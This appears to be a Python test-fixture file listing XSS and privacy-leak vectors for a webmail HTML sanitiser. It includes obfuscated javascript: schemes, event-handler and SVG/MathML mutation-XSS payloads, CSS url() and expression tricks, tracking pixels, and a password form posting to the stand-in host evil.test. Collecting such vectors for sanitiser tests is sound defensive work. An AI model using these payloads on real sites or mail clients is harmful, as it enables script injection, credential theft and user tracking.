"""XSS and privacy-leak vectors for the mail sanitiser, importable by the browser tests too.

Each vector is (label, html). Remote URLs all point at evil.test so that a leak is easy to spot;
every vector must come out with no script, no event handler, no dangerous URL, and no remote
load unless remote content was allowed (then only through the portal's proxy).
"""

from __future__ import annotations

from typing import NamedTuple


class Vector(NamedTuple):
    label: str
    html: str


XSS_VECTORS: tuple[Vector, ...] = (
    # scheme smuggling
    Vector("javascript scheme", '<a href="javascript:alert(1)">x</a>'),
    Vector("mixed-case scheme", '<a href="JaVaScRiPt:alert(1)">x</a>'),
    Vector("tab inside scheme", '<a href="java&#x09;script:alert(1)">x</a>'),
    Vector("newline inside scheme", '<a href="java&#10;script:alert(1)">x</a>'),
    Vector(
        "entity-encoded scheme",
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    ),
    Vector(
        "entity-encoded scheme without semicolons",
        '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">x</a>',
    ),
    Vector("hex entities, padded", '<a href="&#x0000006A;avascript:alert(1)">x</a>'),
    Vector("named entity colon", '<a href="javascript&colon;alert(1)">x</a>'),
    Vector("leading whitespace and controls", '<a href=" \x01\x02 javascript:alert(1)">x</a>'),
    Vector("leading NUL", '<a href="\x00javascript:alert(1)">x</a>'),
    Vector("vbscript scheme", '<a href="vbscript:msgbox(1)">x</a>'),
    Vector("data text/html link", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'),
    Vector("data svg image", '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'),
    Vector("data text in img", '<img src="data:text/html,<script>alert(1)</script>">'),
    Vector("javascript img src", '<img src="javascript:alert(1)">'),
    Vector("unquoted javascript href", "<a href=javascript:alert(1)>x</a>"),
    # script and handlers
    Vector("script element", "<script>alert(1)</script>"),
    Vector("script with src", '<script src="https://evil.test/x.js"></script>'),
    Vector("img onerror", '<img src="x" onerror="alert(1)">'),
    Vector("body onload", '<body onload="alert(1)">'),
    Vector("handler with slash", '<img/src="x"/onerror=alert(1)>'),
    Vector("details ontoggle", "<details open ontoggle=alert(1)>"),
    Vector("uppercase handler", '<p ONMOUSEOVER="alert(1)">x</p>'),
    # SVG and MathML
    Vector("svg onload", "<svg onload=alert(1)>"),
    Vector("svg animate onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    Vector(
        "svg set href",
        '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text x="20" y="20">x</text></a></svg>',
    ),
    Vector("svg use external", '<svg><use href="https://evil.test/x.svg#a"/></svg>'),
    Vector(
        "svg foreignObject", '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>'
    ),
    Vector("svg style breakout", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
    Vector("mathml mglyph style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    Vector("mathml href", '<math href="javascript:alert(1)">x</math>'),
    Vector(
        "mathml maction",
        '<math><maction actiontype="statusline#http://evil.test" xlink:href="javascript:alert(1)">x</maction></math>',
    ),
    # namespace confusion and mutation XSS
    Vector("noscript title breakout", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    Vector("form math mglyph", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"),
    Vector("svg p breakout", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'),
    Vector("math style title", "<math><style><img src=x onerror=alert(1)></style></math>"),
    Vector("template content", "<template><img src=x onerror=alert(1)></template>"),
    Vector("comment breakout", '<!--<img src="--><img src=x onerror=alert(1)//">'),
    Vector("bogus comment", "<? <img src=x onerror=alert(1)> ?>"),
    Vector("cdata in html", "<![CDATA[<img src=x onerror=alert(1)>]]>"),
    # raw text elements
    Vector("textarea breakout", "<textarea></textarea><img src=x onerror=alert(1)></textarea>"),
    Vector("textarea content", "<textarea><img src=x onerror=alert(1)></textarea>"),
    Vector("style breakout", "<style></style><img src=x onerror=alert(1)></style>"),
    Vector("style end tag in string", '<style>p{content:"</style><script>alert(1)</script>"}</style>'),
    Vector("title breakout", "<title></title><img src=x onerror=alert(1)></title>"),
    Vector("title content", "<title><img src=x onerror=alert(1)></title>"),
    Vector("noembed breakout", '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>'),
    Vector("xmp breakout", '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>'),
    Vector("iframe breakout", '<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>'),
    Vector("iframe srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    Vector("noframes breakout", '<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>'),
    Vector("plaintext", "<plaintext><img src=x onerror=alert(1)>"),
    # forms and embedding
    Vector("form action", '<form action="https://evil.test/steal"><input name="password"><button>OK</button></form>'),
    Vector("button formaction", '<button formaction="javascript:alert(1)">x</button>'),
    Vector("input image", '<input type="image" src="https://evil.test/i.png">'),
    Vector("object data", '<object data="https://evil.test/x.swf"></object>'),
    Vector("embed src", '<embed src="https://evil.test/x.swf">'),
    Vector("isindex", '<isindex action="javascript:alert(1)" type="image">'),
    # CSS
    Vector("css expression", '<p style="width:expression(alert(1))">x</p>'),
    Vector("css escaped expression", '<p style="width:ex\\pression(alert(1))">x</p>'),
    Vector("css commented expression", '<p style="width:e/**/xpression(alert(1))">x</p>'),
    Vector("css escaped url", '<p style="background:u\\rl(https://evil.test/a.png)">x</p>'),
    Vector("css hex-escaped url", '<p style="background:\\75 rl(https://evil.test/a.png)">x</p>'),
    Vector("css url javascript", '<p style="background:url(javascript:alert(1))">x</p>'),
    Vector("css remote background", '<p style="background-image:url(https://evil.test/bg.png)">x</p>'),
    Vector("css entity-encoded url", '<p style="background:url(&quot;https://evil.test/e.png&quot;)">x</p>'),
    Vector("css var url", '<p style="--u:url(https://evil.test/v.png);background:var(--u)">x</p>'),
    Vector("css image-set", '<p style="background-image:image-set(&quot;https://evil.test/s.png&quot; 1x)">x</p>'),
    Vector(
        "css webkit image-set", '<p style="background-image:-webkit-image-set(url(https://evil.test/w.png) 1x)">x</p>'
    ),
    Vector("css behavior", '<p style="behavior:url(https://evil.test/x.htc)">x</p>'),
    Vector("css moz-binding", '<p style="-moz-binding:url(https://evil.test/x.xml#x)">x</p>'),
    Vector("css cursor url", '<p style="cursor:url(https://evil.test/c.cur),auto">x</p>'),
    Vector("css position fixed", '<p style="position:fixed;top:0;left:0">Votre session a expiré</p>'),
    Vector("css import", "<style>@import url(https://evil.test/x.css);</style>"),
    Vector("css import string", '<style>@import "https://evil.test/y.css";</style>'),
    Vector("css font-face remote", "<style>@font-face{font-family:x;src:url(https://evil.test/f.woff)}</style>"),
    Vector(
        "css style block url",
        "<style>td{background:url(https://evil.test/td.png)}</style><table><tr><td>x</td></tr></table>",
    ),
    Vector("css style block escaped url", "<style>td{background:\\75 rl(https://evil.test/td2.png)}</style>"),
    Vector("css style block expression", "<style>p{width:expression(alert(1))}</style><p>x</p>"),
    Vector("css style block sticky", "<style>div{position:sticky;top:0}</style><div>x</div>"),
    Vector("css style block sibling escape", "<style>body ~ div, + div{display:none}</style>"),
    Vector(
        "css style block attribute selector", '<style>a[href^="x"]{background:url(https://evil.test/leak?x)}</style>'
    ),
    Vector("css media url", "<style>@media screen{p{background:url(https://evil.test/m.png)}}</style>"),
    # remote loads outside CSS
    Vector("remote img", '<img src="https://evil.test/pixel.gif" width="1" height="1">'),
    Vector("protocol-relative img", '<img src="//evil.test/pixel.gif">'),
    Vector(
        "background attribute",
        '<table background="https://evil.test/bg.jpg"><tr><td background="http://evil.test/td.jpg">x</td></tr></table>',
    ),
    Vector("body background", '<body background="https://evil.test/body.jpg">x</body>'),
    Vector("video poster", '<video poster="https://evil.test/poster.jpg"></video>'),
    Vector("img srcset", '<img srcset="https://evil.test/1x.png 1x, https://evil.test/2x.png 2x">'),
    Vector("picture source", '<picture><source srcset="https://evil.test/p.webp"><img src="cid:logo"></picture>'),
    Vector("link stylesheet", '<link rel="stylesheet" href="https://evil.test/x.css">'),
    Vector("link prefetch", '<link rel="prefetch" href="https://evil.test/prefetch">'),
    Vector("meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.test/">'),
    Vector("meta refresh javascript", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    Vector("base href", '<base href="https://evil.test/"><a href="/login">x</a><img src="logo.png">'),
    Vector("audio src", '<audio src="https://evil.test/a.mp3" autoplay></audio>'),
    Vector("anchor ping", '<a href="https://example.org/" ping="https://evil.test/ping">x</a>'),
    Vector("img lowsrc dynsrc", '<img lowsrc="https://evil.test/l.png" dynsrc="https://evil.test/d.avi">'),
    Vector("blockquote cite", '<blockquote cite="https://evil.test/c">x</blockquote>'),
    Vector("relative img", '<img src="/mail/logout">'),
)

TEXT_VECTORS: tuple[Vector, ...] = (
    Vector("javascript in text", "javascript:alert(1)"),
    Vector("javascript url-like text", "go to javascript://example.com/%0Aalert(1)"),
    Vector("script tag in text", '"><script>alert(1)</script>'),
    Vector("img tag in text", "<img src=x onerror=alert(1)>"),
    Vector("url with quote", 'https://example.org/"onmouseover="alert(1)'),
    Vector("url with angle brackets", "<https://example.org/a><script>alert(1)</script>"),
    Vector("url with apostrophe", "https://example.org/it's'onclick='alert(1)"),
    Vector("data url in text", "data:text/html,<script>alert(1)</script>"),
    Vector("entity in text", "&lt;script&gt;alert(1)&lt;/script&gt; &#106;avascript:alert(1)"),
    Vector("vbscript in text", "vbscript:msgbox(1)"),
    Vector("mail address", "écrire à contact@example.org"),
)
